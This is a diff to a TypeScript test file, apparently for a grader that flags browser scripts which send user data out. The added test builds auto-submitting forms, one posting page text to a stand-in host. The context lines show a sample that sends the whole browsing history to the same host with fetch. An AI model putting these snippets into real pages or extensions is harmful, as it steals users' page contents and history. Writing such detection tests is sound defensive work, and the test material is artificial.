@@ -161,6 +161,15 @@ it('a form whose address its class was given, filled by another method', async (
   expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
 });
 
+it('the second of two forms that a script makes', async () => {
+  const form = (to: string): string =>
+    `(() => { const form = document.createElement('form'); form.method = 'POST'; form.action = '${to}'; const input = document.createElement('input'); input.name = 'q'; input.value = DATA; form.append(input); document.body.append(form); form.submit(); })();`;
+  const content = (data: string): string =>
+    `${form('https://www.shop.test/search').replace('DATA', "'shoes'")} ${form('https://collect.example/x').replace('DATA', data)}`;
+  expect(await graded({ content: content('document.body.innerText') })).toMatch(/^[DF]/);
+  expect(await graded({ content: content("'ready'") })).toMatch(/^A/);
+});
+
 it('history is not asked for by opening a popup, but by a click in it', async () => {
   const sending =
     "const all = await chrome.history.search({ text: '' }); fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(all) });";
